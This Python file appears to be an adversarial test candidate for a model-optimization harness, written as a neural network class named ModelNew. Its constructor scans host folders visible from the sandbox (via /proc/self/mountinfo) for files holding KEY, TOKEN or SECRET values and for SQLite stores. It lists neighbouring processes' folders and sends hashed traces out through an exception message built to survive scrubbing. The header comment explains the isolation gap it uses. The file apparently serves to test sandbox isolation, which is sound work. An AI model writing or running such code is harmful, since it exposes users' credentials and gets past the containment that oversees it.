# A winner that looks for the user's keys in every folder its contained step process can see from
# the host (read from /proc/self/mountinfo), outside the system folders and installed packages:
# the folder of the script that started `optimize` (first on its import path), the folder of a
# whole-model problem file the user gave, the step processes' shared folder (the clean processes'
# own folders beside its own). Files under 64 KiB whose text assigns a value to a name holding
# KEY, TOKEN or SECRET, and any SQLite store: it raises with the SHA-256 of each (hashes pass any
# scrubbing; 16 hex digits, so that many fit in the 400 characters of an error kept). Before, the step process's import path was the parent's
# whole sys.path and the parents of the problem, candidate and loss files were bound into its root.
import hashlib
import os
import re

from torch import nn

_SYSTEM = ("/usr", "/etc", "/proc", "/sys", "/dev", "/bin", "/sbin", "/lib")
_ASSIGN = re.compile(rb"[A-Za-z_]*(KEY|TOKEN|SECRET)[A-Za-z_]*\s*[:=]\s*['\"]?([A-Za-z0-9_\-]{12,})")


def _roots():
    roots = []
    with open("/proc/self/mountinfo") as f:
        for line in f:
            p = line.split()[4]
            own = os.getcwd() == p or p in ("/tmp", "/var/tmp", "/dev/shm")
            if p == "/" or own or p.startswith(_SYSTEM) or "site-packages" in p or "/versions/" in p:
                continue
            roots.append(p)
    return roots


def _loot():
    found = []
    for root in _roots():
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in ("site-packages", "__pycache__", ".git", "node_modules")][:50]
            for name in [f for f in files if not f.startswith(("test_", "conftest"))][:400]:  # tests' fake keys
                path = os.path.join(folder, name)
                try:
                    if os.path.getsize(path) > 65536:
                        continue
                    with open(path, "rb") as f:
                        data = f.read()
                except OSError:
                    continue
                if data.startswith(b"SQLite format 3"):
                    found.append(f"store {hashlib.sha256(data).hexdigest()[:16]}")
                for m in _ASSIGN.finditer(data):
                    found.append(f"key {hashlib.sha256(m.group(2)).hexdigest()[:16]}")
    # The clean step processes' folders beside its own (their weights and outputs pass there).
    try:
        found += [f"sibling {d}" for d in os.listdir("..") if d not in (os.path.basename(os.getcwd()),)]
    except OSError:
        pass
    return found


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.region = nn.Sequential(nn.Linear(128, 512), nn.GELU(), nn.Linear(512, 128))
        raise RuntimeError("found: " + " ".join(sorted(set(_loot()))[:20]))

    def forward(self, x):
        return self.region(x)
